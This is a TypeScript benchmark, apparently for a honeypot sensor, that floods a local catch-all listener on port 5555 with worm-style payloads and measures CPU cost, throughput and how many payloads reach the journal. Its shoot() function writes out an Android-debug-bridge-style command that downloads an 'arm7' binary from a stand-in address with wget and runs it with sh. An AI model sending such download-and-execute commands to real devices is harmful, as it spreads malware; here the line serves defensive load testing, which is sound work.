import net from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { startSkep } from '../test/skep.ts'
import { repeat } from './load.ts'
import { cpuMs } from './process.ts'
import { sensorOf } from './program.ts'
import { atLeast, atMost, figure, median, type Table } from './table.ts'

const COUNT = 10_000
const AT_ONCE = 256
const ROUNDS = 3
/** One of the most scanned ports, which the catch-all listens on itself without a firewall. */
const PORT = 5555

/** One-shot payloads into the catch-all: connect, say all, leave; a worm's way. Every one is in the journal. */
export default async function catchall(): Promise<Table> {
  const skep = await startSkep({ edition: 'sensor', config: 'services: { catchall: { enabled: true } }\n' })
  const port = PORT + skep.offset
  const sensor = sensorOf(skep)
  const rounds: { cpu: number; perSecond: number; kept: number }[] = []
  try {
    let said = 0
    for (let round = 0; round <= ROUNDS; round++) {
      const before = cpuMs(sensor)
      const began = performance.now()
      await repeat(COUNT, AT_ONCE, () => shoot(port, said++))
      const seconds = (performance.now() - began) / 1000
      await sleep(1500)
      const payloads = skep.events(event => event.event.action === 'payload').length
      if (round > 0)
        rounds.push({ cpu: (cpuMs(sensor) - before) / COUNT, perSecond: COUNT / seconds, kept: payloads / said })
    }
  } finally {
    await skep.stop()
  }
  const of = (key: 'cpu' | 'perSecond' | 'kept') => median(rounds.map(one => one[key]))
  return {
    title: `One-shot payloads into the catch-all, ${AT_ONCE} at once`,
    columns: ['', 'CPU ms/op', 'op/s', 'in the journal', 'ceiling', 'floor'],
    rows: [
      [
        'catch-all, three events durable',
        figure(of('cpu')),
        figure(of('perSecond')),
        `${(of('kept') * 100).toFixed(2)} %`,
        atMost(of('cpu'), 0.2),
        atLeast(of('perSecond'), 5000),
      ],
    ],
    notes: [`${COUNT} connections a round; load and sensor share the machine.`],
  }
}

/** A worm's words, a little other each time. */
function shoot(port: number, n: number): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ port, host: '127.0.0.1', noDelay: true, allowHalfOpen: true })
    socket.once('error', reject)
    socket.on('data', () => {})
    socket.once('end', () => resolve(void socket.destroy()))
    socket.end(
      `\x02\x07\0DVR${n % 250}\0OPENshell:cd /data/local/tmp; wget http://198.51.100.${n % 250}/arm7 -O- >x${n % 1000}; sh x\0`,
    )
  })
}
